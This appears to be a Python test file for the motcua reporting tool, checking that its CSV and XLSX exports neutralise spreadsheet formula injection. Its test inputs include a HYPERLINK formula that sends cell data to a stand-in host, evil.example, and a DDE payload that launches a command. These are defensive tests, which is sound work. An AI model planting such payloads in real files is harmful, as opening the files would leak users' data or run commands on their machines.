"""Issue 24, point 4: no CSV or XLSX motcua writes holds a cell a spreadsheet would run."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from datetime import date
from pathlib import Path

import openpyxl

from domain.catalog import CountingRule, Procedure, TimeUnit
from motcua.catalog.io import write_procedures
from motcua.cli.whatif import render_csv
from motcua.exports import FORMULA_STARTS, csv_writer, safe_cell, safe_row
from motcua.reports import bieu06
from motcua.reports.sla import DEFINITION_VERSION, Report, Row, to_csv

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-3+4", "@SUM(A1:A9)",
           "\tTAB", "\rCR", "=cmd|' /C calc'!A0"]


def _runs(value: object) -> bool:
    """Whether a spreadsheet would read this cell as a formula (a CSV's plain negative number
    is a number)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) \
        and re.fullmatch(r"-\d+(\.\d+)?", value) is None


def test_safe_cell_neutralises_text_only() -> None:
    """Text starting with = + - @ tab or CR gets a leading apostrophe; numbers, None and
    ordinary text (Vietnamese, codes, dates) are left alone."""
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in (-3, -0.5, 0, None, "Nguyễn Văn An", "000.21.39.H39", "2026-01-02", "'=x"):
        assert safe_cell(value) == value
    assert safe_row(["=1", 2, None]) == ["'=1", 2, None]
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", "count"])
    writer.writerows([[h, -1] for h in HOSTILE])
    parsed = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert parsed[0] == ["name", "count"]
    assert [r[1] for r in parsed[1:]] == ["-1"] * len(HOSTILE)
    assert not any(_runs(r[0]) for r in parsed[1:])


def _report(unit: str, procedure: str) -> Report:
    row = Row(unit_code=unit, procedure_code=procedure, received_online=3)
    return Report(period_start=date(2026, 1, 1), period_end=date(2026, 1, 31),
                  as_of=date(2026, 2, 1), unit=unit, procedure=procedure,
                  group_by=("procedure",), rows=[row], totals=dataclasses.replace(row),
                  definition={"version": DEFINITION_VERSION})


def test_sla_csv_and_bieu06_xlsx_hold_no_formula() -> None:
    """The SLA CSV (API, CLI, console) and the Biểu 06 workbook: an echoed unit or procedure
    code is text, never a live formula; counts stay numbers."""
    report = _report("=HYPERLINK(\"http://evil.example\")", "@SUM(1+1)")
    rows = list(csv.reader(io.StringIO(to_csv(report), newline="")))
    assert not any(_runs(cell) for row in rows for cell in row)
    assert rows[1][3] == "'=HYPERLINK(\"http://evil.example\")"
    hostile_unit = "=HYPERLINK(\"http://evil.example\")"
    book = openpyxl.load_workbook(io.BytesIO(bieu06.to_xlsx(report, {}, hostile_unit)))
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" or _runs(c.value) for c in cells)
    line = next(r for r in sheet.iter_rows() if r[1].value == "Thủ tục mã @SUM(1+1)")
    assert line[2].value == 3 and line[2].data_type == "n"
    console_csv = list(csv.reader(io.StringIO(bieu06.to_csv(report, {}, hostile_unit),
                                              newline="")))
    assert not any(_runs(cell) for row in console_csv for cell in row)


def test_whatif_csv_holds_no_formula() -> None:
    """The what-if CSV (API and `motcua whatif --format csv`)."""
    doc = {"period": {"from": "2026-01-01", "to": "2026-01-31"},
           "rows": [{"procedure_code": "-3+4", "unit_code": "+1+2", "received": 2,
                     "delta": {"late": -1}}],
           "totals": {"procedure_code": None, "unit_code": None, "received": 2}}
    rows = list(csv.reader(io.StringIO(render_csv(doc), newline="")))
    assert not any(_runs(cell) for row in rows for cell in row)
    assert rows[1][3:5] == ["'-3+4", "'+1+2"] and rows[1][-1] == "-1"


def test_catalog_export_holds_no_formula(tmp_path: Path) -> None:
    """`motcua catalog export` and `whatif recommend --output`, CSV and XLSX."""
    proc = Procedure(code="1.001193", name="=1+1", field="@field", level="commune",
                     prescribed_amount=5, prescribed_unit=TimeUnit.WORKING_DAYS,
                     reduced_amount=5, reduced_unit=TimeUnit.WORKING_DAYS,
                     reduced_source="", source="-Luật", counting_rule=CountingRule.CIVIL_CODE,
                     due_soon_working_days=1)
    write_procedures(tmp_path / "c.csv", [proc])
    rows = list(csv.reader((tmp_path / "c.csv").open(encoding="utf-8", newline="")))
    assert not any(_runs(cell) for row in rows for cell in row)
    assert rows[1][1] == "'=1+1"
    write_procedures(tmp_path / "c.xlsx", [proc])
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx").worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" or _runs(c.value) for c in cells)
